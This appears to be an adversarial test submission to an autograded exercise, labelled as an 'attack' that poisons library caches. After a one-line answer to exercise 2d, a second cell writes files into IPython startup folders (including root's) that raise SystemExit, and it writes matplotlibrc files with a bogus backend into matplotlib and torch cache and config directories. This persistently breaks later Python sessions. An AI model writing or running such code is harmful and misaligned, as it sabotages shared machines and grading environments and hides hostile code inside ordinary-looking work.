# /// attack
# tries = "poisons what libraries keep for the next time"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os

import matplotlib

places = [
    matplotlib.get_cachedir(),
    matplotlib.get_configdir(),
    os.path.expanduser("~/.ipython/profile_default/startup"),
    os.path.expanduser("~/.config/matplotlib"),
    os.path.expanduser("~/.cache/torch"),
    "/root/.ipython/profile_default/startup",
    "/root/.config",
]
for place in places:
    try:
        os.makedirs(place, exist_ok=True)
        with open(os.path.join(place, "@MARK@.py"), "w") as file:
            file.write("raise SystemExit")
        with open(os.path.join(place, "matplotlibrc"), "w") as file:
            file.write("backend: @MARK@")
    except OSError:
        continue
